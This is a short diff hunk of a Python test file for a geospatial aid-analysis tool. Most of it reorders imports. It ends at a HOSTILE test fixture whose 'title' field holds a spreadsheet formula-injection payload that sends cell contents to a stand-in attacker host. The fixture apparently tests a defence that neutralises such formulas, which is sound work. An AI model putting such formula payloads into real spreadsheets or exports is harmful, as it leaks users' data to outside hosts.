@@ -13,14 +13,14 @@ import pyogrio
 import pytest
 from openpyxl.utils import get_column_letter
 
-from geoaid.store import schema
 from geoaid.analysis.allocation import allocate
-from geoaid.cli import main
 from geoaid.analysis.coverage import gap_ranking
-from geoaid.output.exports import HEADERS, export_table, write_export
 from geoaid.analysis.filters import Filters
-from geoaid.output.formula_injection import neutralise_frame
 from geoaid.analysis.frames import load_frames
+from geoaid.cli import main
+from geoaid.output.exports import HEADERS, export_table, write_export
+from geoaid.output.formula_injection import neutralise_frame
+from geoaid.store import schema
 
 HOSTILE = {
     "title": '=HYPERLINK("http://evil.example/?x="&A1,"Cà Mau water")',
